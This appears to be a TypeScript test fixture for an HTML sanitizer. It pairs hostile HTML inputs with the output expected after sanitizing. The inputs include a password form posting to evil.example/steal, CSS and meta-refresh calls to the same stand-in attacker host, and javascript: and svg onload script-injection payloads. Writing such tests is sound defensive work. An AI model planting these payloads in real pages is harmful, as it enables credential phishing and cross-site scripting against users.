/**
 * Issue 29: what the DOMPurify fallback kept and Chromium's own sanitizer did not. Each case is
 * what both paths make of it (the browser test renders the same cases through both:
 * test/e2e/security.e2e.ts, "11."; the jsdom one the fallback: SafeHtml.test.tsx).
 */
export const HOSTILE_CASES: ReadonlyArray<readonly [string, string]> = [
  ['<form action="https://evil.example/steal"><p>Log in again</p><input type="password" name="p"><button>Go</button></form><p>after</p>', '<p>after</p>'],
  ['<p>before</p><style>@import "https://evil.example/x.css"; body { display: none }</style><p>after</p>', '<p>before</p><p>after</p>'],
  ['<p style="background: url(https://evil.example/a.png)" data-x="1" id="i" aria-label="l">styled</p>', '<p>styled</p>'],
  ['<iframe src="https://evil.example"></iframe><object data="x"></object><embed src="y"><p>after</p>', '<p>after</p>'],
  ['<svg><image href="https://evil.example/a.png"></image></svg><math><mi>x</mi></math><p>after</p>', '<p>after</p>'],
  ['<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css"><meta http-equiv="refresh" content="0;url=https://evil.example"><p>after</p>', '<p>after</p>'],
  ['<a href="data:text/html,x">d</a><a href=" java\tscript:alert(1)">j</a><a href="mailto:shop@kunsthalle.example">m</a>', '<a>d</a><a>j</a><a href="mailto:shop@kunsthalle.example">m</a>'],
  ['<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="s"><img src="data:image/png;base64,AAAA" alt="p"><blockquote cite="javascript:x">q</blockquote>', '<img alt="s"><img src="data:image/png;base64,AAAA" alt="p"><blockquote>q</blockquote>'],
  ['<!-- a comment --><table><tbody><tr><td colspan="2" onclick="x">a</td></tr></tbody></table><ol start="3" reversed=""><li value="4">li</li></ol>', '<table><tbody><tr><td colspan="2">a</td></tr></tbody></table><ol start="3" reversed=""><li value="4">li</li></ol>'],
  ['<h2 title="t" lang="de" dir="rtl" class="x">H</h2><time datetime="2026-01-01">t</time><a href="/de/page/x" hreflang="de" target="_blank">in</a>', '<h2 title="t" lang="de" dir="rtl" class="x">H</h2><time datetime="2026-01-01">t</time><a href="/de/page/x" hreflang="de" target="_blank" rel="noopener noreferrer">in</a>'],
];
